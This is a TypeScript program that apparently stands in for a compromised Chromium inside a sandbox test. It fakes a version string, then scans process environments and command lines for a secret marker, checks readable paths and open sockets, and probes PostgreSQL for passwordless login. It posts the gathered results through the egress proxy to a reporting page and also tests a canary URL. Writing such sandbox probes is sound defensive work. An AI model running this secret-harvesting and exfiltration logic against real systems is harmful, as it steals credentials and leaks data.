import { readdirSync, readFileSync, readlinkSync } from 'node:fs';
import { createSocket } from 'node:dgram';
import { request } from 'node:http';
import { connect, type NetConnectOpts } from 'node:net';
import { join } from 'node:path';

/** What this program is to reach for; in `targets.json` beside it. */
export type Targets = {
  /** What every secret contains. */
  marker: string;
  paths: string[];
  /** Listening sockets, by a name for each. */
  sockets: Record<string, NetConnectOpts>;
  udpPort: number;
  /** A page that the egress allows, which takes the report, and one that it does not. */
  site: string;
  canary: string;
};

/** What it reached. */
export type Loot = {
  user: number;
  groups: number[];
  environment: string[];
  read: string[];
  /** What processes show: files of /proc. */
  processes: string[];
  canSignalWorker: boolean;
  connected: string[];
  /** What the database answers to one that gives a user and no password. */
  database: 'unreachable' | 'open' | 'password';
  throughEgress: { site: number | null; canary: number | null };
};

const works = (work: () => unknown): boolean => {
  try {
    work();
    return true;
  } catch {
    return false;
  }
};

const canRead = (path: string): boolean => works(() => readFileSync(path)) || works(() => readdirSync(path));

const holds = (path: string, text: string): boolean => {
  try {
    return readFileSync(path).includes(text);
  } catch {
    return false;
  }
};

/** Processes that show a secret in their environment or command line; of the worker also what else it lets be opened. */
const searchProcesses = ({ marker }: Targets): string[] => {
  const processes = readdirSync('/proc').filter((name) => /^\d+$/.test(name) && Number(name) !== process.pid);
  const shown = ['environ', 'cmdline'].filter((file) => processes.some((pid) => holds(`/proc/${pid}/${file}`, marker)));
  const own = `/proc/${process.ppid}`;
  if (works(() => readlinkSync(`${own}/cwd`))) shown.push('cwd');
  if (works(() => readlinkSync(`${own}/fd/1`))) shown.push('fd');
  if (works(() => readFileSync(`${own}/maps`))) shown.push('maps');
  return shown;
};

const canConnect = (options: NetConnectOpts): Promise<boolean> =>
  new Promise((resolve) => {
    const socket = connect({ ...options, timeout: 2_000 });
    const end = (isOpen: boolean): void => {
      socket.destroy();
      resolve(isOpen);
    };
    socket
      .once('connect', () => end(true))
      .once('error', () => end(false))
      .once('timeout', () => end(false));
  });

/** PostgreSQL's first message after a user's name: an authentication request, 0 where none is needed. */
const knockAtDatabase = (options: NetConnectOpts): Promise<Loot['database']> =>
  new Promise((resolve) => {
    const fields = Buffer.from('user\0zugang\0database\0zugang\0\0');
    const head = Buffer.alloc(8);
    head.writeInt32BE(head.length + fields.length, 0);
    head.writeInt32BE(3 << 16, 4);
    const socket = connect(options, () => socket.write(Buffer.concat([head, fields])));
    socket.once('error', () => resolve('unreachable'));
    socket.once('data', (data) => {
      socket.destroy();
      resolve(data.toString('latin1', 0, 1) === 'R' && data.readInt32BE(5) === 0 ? 'open' : 'password');
    });
  });

const ask = (proxyPort: number, url: string, body = ''): Promise<number | null> =>
  new Promise((resolve) => {
    const options = { host: '127.0.0.1', port: proxyPort, method: 'POST', path: url, agent: false };
    request(
      { ...options, headers: { host: new URL(url).host, 'content-length': Buffer.byteLength(body) } },
      (answer) => {
        answer.resume();
        answer.once('end', () => resolve(answer.statusCode ?? null));
      },
    )
      .once('error', () => resolve(null))
      .end(body);
  });

const sendUdp = (port: number): Promise<void> =>
  new Promise((resolve) => {
    const socket = createSocket('udp4');
    socket.send('x', port, '127.0.0.1', () => socket.close(() => resolve()));
  });

const search = async (targets: Targets, proxyPort: number): Promise<Loot> => {
  const names = Object.keys(targets.sockets);
  const open = await Promise.all(Object.values(targets.sockets).map(canConnect));
  await sendUdp(targets.udpPort);
  return {
    user: process.getuid?.() ?? -1,
    groups: process.getgroups?.() ?? [],
    environment: Object.keys(process.env),
    read: targets.paths.filter(canRead),
    processes: searchProcesses(targets),
    canSignalWorker: works(() => process.kill(process.ppid, 0)),
    connected: names.filter((_, at) => open[at]),
    database: await knockAtDatabase(targets.sockets['database'] ?? { port: 0 }),
    throughEgress: { site: await ask(proxyPort, targets.site), canary: await ask(proxyPort, targets.canary) },
  };
};

/** A browser that a page has taken over, whose parent is the worker: it takes what it can, and reports it to a page that it may reach. */
if (process.argv.includes('--version')) console.log('Chromium 999.0.0.0');
else {
  const targets = JSON.parse(readFileSync(join(import.meta.dirname, 'targets.json'), 'utf8')) as Targets;
  const proxy = process.argv.find((argument) => argument.startsWith('--proxy-server='))?.split('=')[1] ?? '';
  const { port } = new URL(proxy);
  await ask(Number(port), targets.site, JSON.stringify(await search(targets, Number(port))));
}
